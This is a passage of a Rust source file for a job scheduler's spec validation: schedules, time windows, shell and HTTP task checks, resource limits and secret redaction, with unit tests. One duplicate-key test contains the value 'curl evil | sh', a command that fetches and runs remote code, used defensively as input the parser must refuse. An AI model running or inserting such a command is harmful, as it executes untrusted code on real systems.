        if expressions[..i].iter().any(|(_, e)| e.trim() == expression.trim()) {
            return Err(SpecError::at(field, format!("{expression:?} is listed twice")));
        }
        parsed.push(schedule);
    }
    let from = window.from.map(|t| window_instant("active_from", t)).transpose()?;
    let until = window.until.map(|t| window_instant("active_until", t)).transpose()?;
    if let (Some(from), Some(until)) = (from, until) {
        if until < from {
            return Err(SpecError::at("active_until", "must not be earlier than active_from"));
        }
    }
    if parsed.is_empty() {
        return Err(SpecError::at("schedule", "a schedule is required"));
    }
    let first = parsed.remove(0);
    Ok(first.shaped(&parsed, from, until))
}

/// A `jitter` of `jitter_ms` (0: none) must be shorter than the time between the schedule's
/// ticks, or it would not spread them: checked over its next `JITTER_GAP_SAMPLE` ticks after
/// `after_ms` when a job is saved or previewed. (Workers need no such check: a tick's delay is
/// kept below the time to the next tick whatever the jitter.)
pub fn check_jitter(schedule: &Schedule, jitter_ms: i64, after_ms: UnixMs) -> Result<(), SpecError> {
    if jitter_ms <= 0 {
        return Ok(());
    }
    match schedule.shortest_gap(after_ms, JITTER_GAP_SAMPLE) {
        Some(gap) if jitter_ms >= gap => Err(SpecError::at(
            "jitter",
            format!("must be shorter than the time between the job's ticks ({gap} ms apart at the shortest)"),
        )),
        _ => Ok(()),
    }
}

/// An `active_from`/`active_until` instant: RFC 3339, within the range of `@at`.
fn window_instant(field: &str, text: &str) -> Result<UnixMs, SpecError> {
    let at = chrono::DateTime::parse_from_rfc3339(text.trim())
        .map_err(|e| SpecError::at(field, format!("must be an RFC 3339 instant such as 2026-12-01T00:00:00Z ({e})")))?;
    let ms = at.timestamp_millis();
    if !(0..=crate::schedule::MAX_AT_MS).contains(&ms) {
        return Err(SpecError::at(
            field,
            format!("must be from 1970-01-01T00:00:00Z to {}", crate::rfc3339_ms(crate::schedule::MAX_AT_MS)),
        ));
    }
    Ok(ms)
}

/// The JSON value of a spec's bytes, refused past `MAX_SPEC_BYTES`.
pub(crate) fn json_value(bytes: &[u8]) -> Result<serde_json::Value, SpecError> {
    if bytes.len() > MAX_SPEC_BYTES {
        return Err(SpecError {
            field: None,
            message: format!("job spec is {} bytes; the limit is {MAX_SPEC_BYTES}", bytes.len()),
            too_large: true,
        });
    }
    crate::json::from_slice_unique(bytes).map_err(|e| match e {
        crate::json::ParseError::Duplicate { path } => {
            SpecError::at(&path, "is given twice in one object; give each key once")
        }
        crate::json::ParseError::Syntax(e) => serde_error(".", &e.to_string(), true),
    })
}

/// serde reads a struct from a JSON array too (fields by position), so `["* * * * *", "UTC",
/// true, {...}]` would be a spec: refuse arrays wherever the spec has an object.
fn objects_only(value: &serde_json::Value) -> Result<(), SpecError> {
    if !value.is_object() {
        return Err(SpecError {
            field: None,
            message: "a job spec must be a JSON object".to_owned(),
            too_large: false,
        });
    }
    for field in ["task", "retries", "limits"] {
        if value.get(field).is_some_and(serde_json::Value::is_array) {
            return Err(SpecError::at(field, "must be a JSON object"));
        }
    }
    if let Some(targets) = value.get("notify").and_then(serde_json::Value::as_array) {
        if let Some(i) = targets.iter().position(serde_json::Value::is_array) {
            return Err(SpecError::at(&format!("notify[{i}]"), "must be a JSON object"));
        }
    }
    Ok(())
}

/// Checks a team name: 1 to [`MAX_TEAM_LEN`] characters, lowercase letters, digits and `-`,
/// starting with a letter or digit (`^[a-z0-9][a-z0-9-]{0,62}$`). The one rule for the spec's
/// `team`, the teams of tokens and the `team` query parameter.
pub fn validate_team(team: &str) -> Result<(), String> {
    let first_ok = team.bytes().next().is_some_and(|b| b.is_ascii_lowercase() || b.is_ascii_digit());
    let rest_ok = team.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
    if team.is_empty() || team.len() > MAX_TEAM_LEN || !first_ok || !rest_ok {
        return Err(format!(
            "team {team:?} must be 1 to {MAX_TEAM_LEN} lowercase letters, digits and '-', starting with a letter or \
             digit (pattern ^[a-z0-9][a-z0-9-]{{0,62}}$)"
        ));
    }
    Ok(())
}

/// Validates a job name, naming the field `name`.
pub fn validate_name(name: &str) -> Result<(), SpecError> {
    validate_job_name(name).map_err(|m| SpecError::at("name", m))
}

pub(crate) fn serde_error(path: &str, message: &str, syntax: bool) -> SpecError {
    if syntax {
        return SpecError { field: None, message: format!("body is not valid JSON: {message}"), too_large: false };
    }
    let base = if path == "." { String::new() } else { path.to_owned() };
    // serde names unknown/missing fields in backticks; make them part of the path.
    let named =
        ["unknown field `", "missing field `", "duplicate field `", "unknown variant `"].iter().find_map(|prefix| {
            message.strip_prefix(prefix).and_then(|rest| rest.split_once('`')).map(|(name, _)| (prefix, name))
        });
    let field = match named {
        Some((prefix, name)) if !prefix.starts_with("unknown variant") => {
            if base.is_empty() || base == name || base.ends_with(&format!(".{name}")) {
                if base.is_empty() {
                    name.to_owned()
                } else {
                    base
                }
            } else if base.is_empty() {
                name.to_owned()
            } else {
                format!("{base}.{name}")
            }
        }
        _ => base,
    };
    let message = strip_location(message);
    SpecError { field: (!field.is_empty()).then_some(field), message, too_large: false }
}

/// serde_json appends " at line 1 column 7"; the field path already says where.
fn strip_location(message: &str) -> String {
    match message.rfind(" at line ") {
        Some(i) => message[..i].to_owned(),
        None => message.to_owned(),
    }
}

fn validate_shell(shell: &ShellTask) -> Result<(), SpecError> {
    if shell.command.trim().is_empty() {
        return Err(SpecError::at("task.command", "must not be empty"));
    }
    if shell.command.len() > MAX_COMMAND_BYTES {
        return Err(SpecError::at("task.command", format!("longer than {MAX_COMMAND_BYTES} bytes")));
    }
    if shell.command.contains('\0') {
        return Err(SpecError::at("task.command", "must not contain NUL bytes"));
    }
    validate_map("task.env", &shell.env, env_key_ok)?;
    validate_secrets("task.secret_env", &shell.secret_env, env_key_ok, shell.env.len())?;
    let names: Vec<(&str, &String)> = shell
        .env
        .keys()
        .map(|k| ("task.env", k))
        .chain(shell.secret_env.keys().map(|k| ("task.secret_env", k)))
        .collect();
    for &(field, k) in &names {
        if k.starts_with("ETCRON_") {
            return Err(SpecError::at(
                &format!("{field}.{k}"),
                "the ETCRON_ prefix is reserved for variables etcron sets",
            ));
        }
    }
    if let Some(k) = shell.secret_env.keys().find(|k| shell.env.contains_key(*k)) {
        return Err(SpecError::at(&format!("task.secret_env.{k}"), "is also in task.env; give each variable once"));
    }
    crate::params::validate(&shell.params, &names)?;
    if let Some(cwd) = &shell.cwd {
        if !cwd.starts_with('/') || cwd.contains('\0') || cwd.len() > 4096 {
            return Err(SpecError::at("task.cwd", "must be an absolute path"));
        }
    }
    if let Some(user) = &shell.user {
        check_account_name(user).map_err(|m| SpecError::at("task.user", m))?;
    }
    if let Some(group) = &shell.group {
        check_account_name(group).map_err(|m| SpecError::at("task.group", m))?;
        if shell.user.is_none() {
            return Err(SpecError::at("task.group", "needs task.user (the group must be one of that user's)"));
        }
    }
    Ok(())
}

/// Longest user or group name (as `useradd` allows).
pub const MAX_ACCOUNT_NAME_LEN: usize = 32;

/// A user or group name as the user database holds it: a letter or `_` first, then letters,
/// digits, `_`, `.` and `-`. Numeric ids are refused: a name says which account was meant on
/// every worker, a number may be someone else on the next machine.
///
/// # Errors
/// What is wrong with `name`.
pub fn check_account_name(name: &str) -> Result<(), String> {
    let mut chars = name.chars();
    let first_ok = chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_');
    let rest_ok = chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'));
    if name.is_empty() || name.len() > MAX_ACCOUNT_NAME_LEN || !first_ok || !rest_ok {
        return Err(format!(
            "must be an account name of at most {MAX_ACCOUNT_NAME_LEN} characters: a letter or _ first, then \
             letters, digits, _ . - (numeric ids are not accepted), got {name:?}"
        ));
    }
    Ok(())
}

fn validate_http(http: &HttpTask) -> Result<(), SpecError> {
    const METHODS: [&str; 7] = ["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"];
    if !METHODS.contains(&http.method.as_str()) {
        return Err(SpecError::at("task.method", format!("must be one of {}", METHODS.join(", "))));
    }
    crate::headers::check_url(&http.url, MAX_URL_LEN).map_err(|m| SpecError::at("task.url", m))?;
    if http.headers.len() > MAX_MAP_ENTRIES {
        return Err(SpecError::at("task.headers", format!("at most {MAX_MAP_ENTRIES} entries")));
    }
    if http.headers.len() + http.secret_headers.len() > MAX_MAP_ENTRIES {
        return Err(SpecError::at(
            "task.secret_headers",
            format!("at most {MAX_MAP_ENTRIES} entries with the plain ones"),
        ));
    }
    let plain = http.headers.iter().map(|(k, v)| ("task.headers", k, Some(v.as_str())));
    let secret = http.secret_headers.iter().map(|(k, v)| ("task.secret_headers", k, v.as_deref()));
    for (field, name, value) in plain.chain(secret) {
        let at = || format!("{field}.{name}");
        crate::headers::check_name(name, &[]).map_err(|m| SpecError::at(&at(), m))?;
        if let Some(value) = value {
            crate::headers::check_value(value).map_err(|m| SpecError::at(&at(), m))?;
        }
    }
    if let Some(k) = http.secret_headers.keys().find(|k| http.headers.keys().any(|h| h.eq_ignore_ascii_case(k))) {
        return Err(SpecError::at(
            &format!("task.secret_headers.{k}"),
            "is also in task.headers; give each header once",
        ));
    }
    if http.body.as_ref().is_some_and(|b| b.len() > MAX_HTTP_BODY) {
        return Err(SpecError::at("task.body", format!("longer than {MAX_HTTP_BODY} bytes")));
    }
    if let Some(s) = http.expect_status {
        if !(100..=599).contains(&s) {
            return Err(SpecError::at("task.expect_status", "must be an HTTP status between 100 and 599"));
        }
    }
    if let Some(poll) = &http.asynchronous {
        if http.expect_status.is_some() {
            return Err(SpecError::at(
                "task.expect_status",
                "not with task.async: a 202 answer starts the polling, any other 2xx is a success at once",
            ));
        }
        poll.validate()?;
    }
    Ok(())
}

fn validate_limits(limits: &Limits, task: &Task, max_output: Option<u64>) -> Result<(), SpecError> {
    if !matches!(task, Task::Shell(_)) {
        for (field, set) in [
            ("limits.memory", limits.memory.is_some()),
            ("limits.cpu", limits.cpu.is_some()),
            ("limits.open_files", limits.open_files.is_some()),
        ] {
            if set {
                return Err(SpecError::at(
                    field,
                    format!(
                        "applies to shell tasks only (an {} task runs inside the worker); use timeout and limits.output",
                        if matches!(task, Task::Grpc(_)) { "gRPC" } else { "HTTP" }
                    ),
                ));
            }
        }
    }
    if let Some(m) = limits.memory {
        if !MEMORY_LIMIT_RANGE.contains(&m.0) {
            return Err(SpecError::at(
                "limits.memory",
                format!(
                    "must be between {} and {}",
                    ByteSize(*MEMORY_LIMIT_RANGE.start()),
                    ByteSize(*MEMORY_LIMIT_RANGE.end())
                ),
            ));
        }
    }
    if let Some(c) = limits.cpu {
        if !CPU_LIMIT_RANGE.contains(&c.0) || c.0.subsec_nanos() != 0 {
            return Err(SpecError::at(
                "limits.cpu",
                format!(
                    "must be whole seconds between {} and {}",
                    HumanDuration(*CPU_LIMIT_RANGE.start()),
                    HumanDuration(*CPU_LIMIT_RANGE.end())
                ),
            ));
        }
    }
    if let Some(n) = limits.open_files {
        if !OPEN_FILES_RANGE.contains(&n) {
            return Err(SpecError::at(
                "limits.open_files",
                format!("must be between {} and {}", OPEN_FILES_RANGE.start(), OPEN_FILES_RANGE.end()),
            ));
        }
    }
    if let Some(o) = limits.output {
        if !MAX_OUTPUT_RANGE.contains(&o.0) {
            return Err(SpecError::at(
                "limits.output",
                format!("must be between {} and {} bytes", MAX_OUTPUT_RANGE.start(), MAX_OUTPUT_RANGE.end()),
            ));
        }
        if max_output.is_some_and(|m| m != o.0) {
            return Err(SpecError::at(
                "limits.output",
                "is another name for max_output and differs from it; give one of them",
            ));
        }
    }
    Ok(())
}

fn label_key_ok(k: &str) -> bool {
    !k.is_empty()
        && k.starts_with(|c: char| c.is_ascii_alphanumeric())
        && k.chars().all(|c| c.is_ascii_alphanumeric() || "._-/".contains(c))
}

/// Checks a manual run's environment overrides as the spec's `env` is checked (names, count,
/// sizes, no `ETCRON_` prefix), naming the entry as `{field}.{NAME}`.
///
/// # Errors
/// What is wrong, naming the field.
pub fn validate_env_overrides(field: &str, env: &BTreeMap<String, String>) -> Result<(), SpecError> {
    validate_map(field, env, env_key_ok)?;
    if let Some(k) = env.keys().find(|k| k.starts_with("ETCRON_")) {
        return Err(SpecError::at(&format!("{field}.{k}"), "the ETCRON_ prefix is reserved for variables etcron sets"));
    }
    Ok(())
}

fn validate_map(field: &str, map: &BTreeMap<String, String>, key_ok: impl Fn(&str) -> bool) -> Result<(), SpecError> {
    if map.len() > MAX_MAP_ENTRIES {
        return Err(SpecError::at(field, format!("at most {MAX_MAP_ENTRIES} entries")));
    }
    for (k, v) in map {
        if k.len() > MAX_MAP_KEY_LEN || !key_ok(k) {
            return Err(SpecError::at(&format!("{field}.{k}"), "invalid key"));
        }
        if v.len() > MAX_MAP_VALUE_LEN || v.contains('\0') {
            return Err(SpecError::at(
                &format!("{field}.{k}"),
                format!("value longer than {MAX_MAP_VALUE_LEN} bytes or contains NUL"),
            ));
        }
    }
    Ok(())
}

/// As [`validate_map`] for secret values (a `null` value is checked when it is filled in);
/// `plain` entries of the same task count toward the limit too.
fn validate_secrets(field: &str, map: &Secrets, key_ok: impl Fn(&str) -> bool, plain: usize) -> Result<(), SpecError> {
    if map.len() + plain > MAX_MAP_ENTRIES {
        return Err(SpecError::at(field, format!("at most {MAX_MAP_ENTRIES} entries with the plain ones")));
    }
    for (k, v) in map {
        if k.len() > MAX_MAP_KEY_LEN || !key_ok(k) {
            return Err(SpecError::at(&format!("{field}.{k}"), "invalid key"));
        }
        if v.as_ref().is_some_and(|v| v.len() > MAX_MAP_VALUE_LEN || v.contains('\0')) {
            return Err(SpecError::at(
                &format!("{field}.{k}"),
                format!("value longer than {MAX_MAP_VALUE_LEN} bytes or contains NUL"),
            ));
        }
    }
    Ok(())
}

/// A spec as JSON with every secret withheld by the rule of [`JobSpec::redacted`], for values
/// that need not be valid specs (a value written around the API, a refused request the audit
/// log keeps): the values of `secret_env` / `secret_headers` / `secret_metadata` (task and
/// targets) and `secret_url`s become `null`, URL passwords are shown as `redacted`. A test holds the two to
/// the same answer on valid specs.
#[must_use]
pub fn redacted_json(mut value: serde_json::Value) -> serde_json::Value {
    use serde_json::Value;
    fn null_values(v: Option<&mut Value>) {
        match v {
            Some(Value::Object(map)) => map.values_mut().for_each(|x| *x = Value::Null),
            Some(other) => *other = Value::Null,
            None => {}
        }
    }
    fn hide_password(v: Option<&mut Value>) {
        if let Some(Value::String(url)) = v {
            *url = crate::headers::shown_url(url);
        }
    }
    if let Some(task) = value.get_mut("task").and_then(Value::as_object_mut) {
        null_values(task.get_mut("secret_env"));
        null_values(task.get_mut("secret_headers"));
        null_values(task.get_mut("secret_metadata"));
        hide_password(task.get_mut("url"));
    }
    if let Some(targets) = value.get_mut("notify").and_then(Value::as_array_mut) {
        for target in targets.iter_mut().filter_map(Value::as_object_mut) {
            if let Some(url) = target.get_mut("secret_url") {
                *url = Value::Null;
            }
            null_values(target.get_mut("secret_headers"));
            hide_password(target.get_mut("url"));
        }
    }
    value
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn retry_delays_grow_exponentially_up_to_the_cap() {
        let r = Retries { max: 10, backoff: HumanDuration::from_secs(10), max_backoff: HumanDuration::from_secs(60) };
        assert_eq!(r.delay(1, 1.0), Duration::from_secs(10));
        assert_eq!(r.delay(2, 1.0), Duration::from_secs(20));
        assert_eq!(r.delay(3, 1.0), Duration::from_secs(40));
        assert_eq!(r.delay(4, 1.0), Duration::from_secs(60));
        assert_eq!(r.delay(100, 1.0), Duration::from_secs(60));
        assert_eq!(r.delay(1, 0.0), Duration::from_secs(5));
        assert_eq!(r.delay(2, 0.5), Duration::from_secs(15));
    }

    fn parse(json: &str) -> Result<JobSpec, SpecError> {
        JobSpec::from_json(json.as_bytes())
    }

    fn field_of(json: &str) -> Option<String> {
        parse(json).unwrap_err().field
    }

    const MINIMAL: &str = r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true"}}"#;

    #[test]
    fn defaults_fill_what_is_left_out() {
        let spec = parse(MINIMAL).unwrap();
        assert_eq!(spec.timezone, "UTC");
        assert!(spec.enabled);
        assert_eq!(spec.concurrency, Concurrency::Allow);
        assert_eq!(spec.misfire, Misfire::Skip);
        assert_eq!(spec.mode, Mode::Single);
        assert_eq!(spec.retries, Retries::default());
        assert_eq!(spec.timeout, None);
        assert_eq!(spec.start_deadline, None, "absent stays absent");
        assert_eq!(spec.start_deadline(), DEFAULT_START_DEADLINE);
        let given = parse(r#"{"schedule":"* * * * *","start_deadline":"1m","task":{"kind":"shell","command":"true"}}"#);
        assert_eq!(given.unwrap().start_deadline(), Duration::from_secs(60));
    }

    #[test]
    fn full_spec_round_trips() {
        let json = r#"{ "schedule": "*/5 * * * * *", "timezone": "Europe/Berlin", "enabled": true,
          "task": {"kind": "shell", "command": "pg_dump db > /backups/db.sql", "env": {"A": "1"}, "cwd": "/"},
          "timeout": "10m", "retries": {"max": 3, "backoff": "10s", "max_backoff": "5m"},
          "concurrency": "forbid", "misfire": "run_once", "on_worker_loss": "mark_lost",
          "mode": {"sharded": 4}, "selector": {"region": "eu"}, "on_success": ["job-b"], "on_failure": ["alert"],
          "description": "nightly", "labels": {"team": "data"} }"#;
        let spec = parse(json).unwrap();
        assert_eq!(spec.mode, Mode::Sharded(4));
        assert_eq!(spec.timeout, Some(HumanDuration::from_secs(600)));
        let again = parse(&serde_json::to_string(&spec).unwrap()).unwrap();
        assert_eq!(spec, again);
        let http = r#"{"schedule":"@every 10s","task":{"kind":"http","url":"https://example.com/hook","method":"POST","headers":{"X-Token":"t"},"body":"{}","expect_status":204}}"#;
        let spec = parse(http).unwrap();
        assert!(matches!(spec.task, Task::Http(ref h) if h.expect_status == Some(204)));
        assert_eq!(serde_json::to_value(Mode::Broadcast).unwrap(), "broadcast");
    }

    #[test]
    fn errors_name_the_field() {
        let cases: &[(&str, &str)] = &[
            (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true"},"bogus":1}"#, "bogus"),
            (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","extra":1}}"#, "task.extra"),
            (r#"{"task":{"kind":"shell","command":"true"}}"#, "schedule"),
            (r#"{"schedule":"nope","task":{"kind":"shell","command":"true"}}"#, "schedule"),
            (r#"{"schedule":"* * * * *","timezone":"Mars/Base","task":{"kind":"shell","command":"true"}}"#, "timezone"),
            (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":""}}"#, "task.command"),
            (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":5}}"#, "task.command"),
            (r#"{"schedule":"* * * * *","task":{"kind":"ftp"}}"#, "task.kind"),
            (r#"{"schedule":"* * * * *","enabled":"yes","task":{"kind":"shell","command":"true"}}"#, "enabled"),
            (r#"{"schedule":"* * * * *","timeout":"soon","task":{"kind":"shell","command":"true"}}"#, "timeout"),
            (r#"{"schedule":"* * * * *","timeout":"0s","task":{"kind":"shell","command":"true"}}"#, "timeout"),
            (
                r#"{"schedule":"* * * * *","start_deadline":"500ms","task":{"kind":"shell","command":"true"}}"#,
                "start_deadline",
            ),
            (
                r#"{"schedule":"* * * * *","start_deadline":"2h","task":{"kind":"shell","command":"true"}}"#,
                "start_deadline",
            ),
            (
                r#"{"schedule":"* * * * *","start_deadline":"soon","task":{"kind":"shell","command":"true"}}"#,
                "start_deadline",
            ),
            (
                r#"{"schedule":"* * * * *","retries":{"max":1000},"task":{"kind":"shell","command":"true"}}"#,
                "retries.max",
            ),
            (
                r#"{"schedule":"* * * * *","retries":{"backoff":"1h","max_backoff":"1m"},"task":{"kind":"shell","command":"true"}}"#,
                "retries.backoff",
            ),
            (
                r#"{"schedule":"* * * * *","concurrency":"sometimes","task":{"kind":"shell","command":"true"}}"#,
                "concurrency",
            ),
            (
                r#"{"schedule":"* * * * *","mode":{"sharded":0},"task":{"kind":"shell","command":"true"}}"#,
                "mode.sharded",
            ),
            (
                r#"{"schedule":"* * * * *","on_success":["Bad Name"],"task":{"kind":"shell","command":"true"}}"#,
                "on_success[0]",
            ),
            (
                r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","env":{"ETCRON_JOB":"x"}}}"#,
                "task.env.ETCRON_JOB",
            ),
            (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","cwd":"relative"}}"#, "task.cwd"),
            (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","user":"1000"}}"#, "task.user"),
            (
                r#"{"schedule":"* * * * *","pause_after_failures":0,"task":{"kind":"shell","command":"true"}}"#,
                "pause_after_failures",
            ),
            (
                r#"{"schedule":"* * * * *","pause_after_failures":1001,"task":{"kind":"shell","command":"true"}}"#,
                "pause_after_failures",
            ),
            (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","user":"a b"}}"#, "task.user"),
            (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","user":""}}"#, "task.user"),
            (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","group":"staff"}}"#, "task.group"),
            (
                r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","user":"x","group":"-x"}}"#,
                "task.group",
            ),
            (r#"{"schedule":"* * * * *","task":{"kind":"http","url":"ftp://x"}}"#, "task.url"),
            (r#"{"schedule":"* * * * *","task":{"kind":"http","url":"http://x","method":"BREW"}}"#, "task.method"),
            (
                r#"{"schedule":"* * * * *","task":{"kind":"http","url":"http://x","expect_status":99}}"#,
                "task.expect_status",
            ),
            (
                r#"{"schedule":"* * * * *","labels":{"bad key":"v"},"task":{"kind":"shell","command":"true"}}"#,
                "labels.bad key",
            ),
        ];
        for (json, field) in cases {
            assert_eq!(field_of(json).as_deref(), Some(*field), "{json}");
        }
    }

    #[test]
    fn a_team_is_checked_named_and_round_trips() {
        let with =
            |team: &str| format!(r#"{{"schedule":"@daily","team":{team},"task":{{"kind":"shell","command":"x"}}}}"#);
        let spec = parse(&with("\"payments\"")).unwrap();
        assert_eq!(spec.team.as_deref(), Some("payments"));
        assert_eq!(serde_json::to_value(&spec).unwrap()["team"], "payments");
        assert!(serde_json::to_value(parse(MINIMAL).unwrap()).unwrap().get("team").is_none(), "no team: left out");
        assert!(parse(&with("null")).unwrap().team.is_none());
        for ok in ["a", "0", "search-eu-2", &"x".repeat(MAX_TEAM_LEN)] {
            assert_eq!(validate_team(ok), Ok(()), "{ok}");
        }
        for bad in ["", "-a", "A", "pay ments", "pay_ments", "pay.ments", "é", &"x".repeat(MAX_TEAM_LEN + 1)] {
            assert!(validate_team(bad).is_err(), "{bad:?}");
            let err = parse(&with(&serde_json::to_string(bad).unwrap())).unwrap_err();
            assert_eq!(err.field.as_deref(), Some("team"), "{bad:?}: {err}");
        }
        assert_eq!(field_of(&with("5")).as_deref(), Some("team"));
    }

    #[test]
    fn several_schedules_and_a_window_are_checked_and_round_trip() {
        let spec = parse(
            r#"{"schedules":["0 9 * * 1-5","0 12 * * 6,0"],"active_from":"2026-12-01T00:00:00Z",
                "active_until":"2026-12-31T23:59:59Z","task":{"kind":"shell","command":"x"}}"#,
        )
        .unwrap();
        let back = serde_json::to_value(&spec).unwrap();
        assert!(back.get("schedule").is_none(), "an empty schedule is left out: {back}");
        assert_eq!(back["schedules"], serde_json::json!(["0 9 * * 1-5", "0 12 * * 6,0"]));
        assert_eq!(parse(&back.to_string()).unwrap(), spec);
        let s = spec.parsed_schedule("x").unwrap();
        let ms = |t: &str| chrono::DateTime::parse_from_rfc3339(t).unwrap().timestamp_millis();
        // Friday 4 December 09:00 (weekday), then Saturday 12:00 and Sunday 12:00.
        assert_eq!(
            s.upcoming(ms("2026-12-04T08:00:00Z"), 3),
            [ms("2026-12-04T09:00:00Z"), ms("2026-12-05T12:00:00Z"), ms("2026-12-06T12:00:00Z")]
        );
        assert_eq!(
            s.next_after(ms("2020-01-01T00:00:00Z")),
            Some(ms("2026-12-01T09:00:00Z")),
            "not before active_from"
        );
        assert_eq!(s.next_after(ms("2026-12-31T12:00:00Z")), None, "nothing after active_until");
        let other = parse(r#"{"schedules":["0 9 * * 1-5","0 12 * * 6,0"],"task":{"kind":"shell","command":"x"}}"#);
        assert!(!spec.same_timing(&other.unwrap()), "the window is part of the timing");

        let x = r#","task":{"kind":"shell","command":"x"}}"#;
        for (body, field) in [
            (r#"{"schedule":"@daily","schedules":["@hourly"]"#, "schedules"),
            (r#"{"schedules":[]"#, "schedule"),
            (r#"{"schedules":["@daily","bad"]"#, "schedules[1]"),
            (r#"{"schedules":["@daily","@daily"]"#, "schedules[1]"),
            (r#"{"schedules":["@daily","@at 2030-01-01T00:00:00Z"]"#, "schedules[1]"),
            (r#"{"schedules":["@daily"],"timezone":"Mars/Base""#, "timezone"),
            (r#"{"schedule":"@daily","jitter":"2h""#, "jitter"),
            (r#"{"schedule":"@daily","jitter":"0s""#, "jitter"),
            (r#"{"schedule":"@daily","active_from":"tomorrow""#, "active_from"),
            (r#"{"schedule":"@daily","active_until":"10000-01-01T00:00:00Z""#, "active_until"),
            (
                r#"{"schedule":"@daily","active_from":"2027-01-01T00:00:00Z","active_until":"2026-01-01T00:00:00Z""#,
                "active_until",
            ),
        ] {
            assert_eq!(field_of(&format!("{body}{x}")).as_deref(), Some(field), "{body}");
        }
        let eleven: Vec<String> = (0..11).map(|i| format!("\"{i} 3 * * *\"")).collect();
        assert_eq!(field_of(&format!(r#"{{"schedules":[{}]{x}"#, eleven.join(","))).as_deref(), Some("schedules"));
        let one_at = parse(r#"{"schedules":["@at 2030-01-01T00:00:00Z"],"task":{"kind":"shell","command":"x"}}"#);
        assert!(one_at.unwrap().parsed_schedule("x").unwrap().is_one_shot(), "a single @at in schedules is one-shot");
    }

    #[test]
    fn limits_are_checked_and_round_trip() {
        let spec = parse(
            r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"},
                "limits":{"memory":"256MiB","cpu":"30s","open_files":64,"output":1048576}}"#,
        )
        .unwrap();
        let limits = spec.limits.unwrap();
        assert_eq!(limits.memory, Some(ByteSize(256 << 20)));
        assert_eq!(limits.cpu, Some(HumanDuration::from_secs(30)));
        assert_eq!(limits.open_files, Some(64));
        assert_eq!(spec.output_limit(), Some(1 << 20));
        assert_eq!(limits.describe(), "memory 256MiB, cpu 30s, open files 64");
        let json = serde_json::to_value(&spec).unwrap();
        assert_eq!(json["limits"], serde_json::json!({"memory":"256MiB","cpu":"30s","open_files":64,"output":"1MiB"}));
        assert_eq!(JobSpec::from_value(json).unwrap(), spec);
        assert_eq!(
            parse(r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"},"limits":{"memory":67108864}}"#)
                .unwrap()
                .limits
                .and_then(|l| l.memory),
            Some(ByteSize(64 << 20))
        );
        // Same value under both names is fine.
        let both = r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"},"max_output":1024,"limits":{"output":"1KiB"}}"#;
        assert_eq!(parse(both).unwrap().output_limit(), Some(1024));
        let shell = |limits: &str| {
            format!(r#"{{"schedule":"@daily","task":{{"kind":"shell","command":"x"}},"limits":{limits}}}"#)
        };
        let http = |limits: &str| {
            format!(r#"{{"schedule":"@daily","task":{{"kind":"http","url":"http://h/"}},"limits":{limits}}}"#)
        };
        for (json, field) in [
            (shell(r#"{"memory":"1KiB"}"#), "limits.memory"),
            (shell(r#"{"memory":"2TiB"}"#), "limits.memory"),
            (shell(r#"{"memory":"lots"}"#), "limits.memory"),
            (shell(r#"{"memory":-1}"#), "limits.memory"),
            (shell(r#"{"cpu":"500ms"}"#), "limits.cpu"),
            (shell(r#"{"cpu":"1500ms"}"#), "limits.cpu"),
            (shell(r#"{"cpu":"8d"}"#), "limits.cpu"),
            (shell(r#"{"cpu":30}"#), "limits.cpu"),
            (shell(r#"{"open_files":8}"#), "limits.open_files"),
            (shell(r#"{"open_files":2000000}"#), "limits.open_files"),
            (shell(r#"{"output":"100B"}"#), "limits.output"),
            (shell(r#"{"nice":5}"#), "limits.nice"),
            (shell(r#""64MiB""#), "limits"),
            (http(r#"{"memory":"64MiB"}"#), "limits.memory"),
            (http(r#"{"cpu":"1s"}"#), "limits.cpu"),
            (http(r#"{"open_files":64}"#), "limits.open_files"),
            (
                r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"},"max_output":1024,"limits":{"output":2048}}"#.to_owned(),
                "limits.output",
            ),
        ] {
            let err = parse(&json).unwrap_err();
            assert_eq!(err.field.as_deref(), Some(field), "{json}: {err}");
            assert!(!err.message.is_empty());
        }
        // HTTP tasks may bound their output.
        assert!(parse(&http(r#"{"output":"4KiB"}"#)).is_ok());
    }

    #[test]
    fn arrays_are_not_read_as_objects() {
        let err = parse(r#"["* * * * *", "UTC", true, {"kind":"shell","command":"true"}]"#).unwrap_err();
        assert_eq!((err.field, err.message.as_str()), (None, "a job spec must be a JSON object"));
        assert_eq!(field_of(r#"{"schedule":"* * * * *","task":["shell","true"]}"#).as_deref(), Some("task"));
        assert_eq!(
            field_of(r#"{"schedule":"* * * * *","retries":[3,"1s","5m"],"task":{"kind":"shell","command":"true"}}"#)
                .as_deref(),
            Some("retries")
        );
    }

    #[test]
    fn syntax_errors_and_size_limit() {
        let err = parse("{not json").unwrap_err();
        assert_eq!(err.field, None);
        assert!(err.message.contains("not valid JSON"), "{}", err.message);
        let big = format!(
            r#"{{"schedule":"* * * * *","description":"{}","task":{{"kind":"shell","command":"true"}}}}"#,
            "x".repeat(MAX_SPEC_BYTES)
        );
        let err = parse(&big).unwrap_err();
        assert!(err.too_large);
        assert!(err.to_string().contains("limit"));
    }

    #[test]
    fn duplicate_keys_are_refused_at_every_level() {
        for (body, field) in [
            (
                r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","command":"curl evil | sh"}}"#,
                "task.command",
            ),
            (r#"{"schedule":"* * * * *","schedule":"@daily","task":{"kind":"shell","command":"true"}}"#, "schedule"),
            (
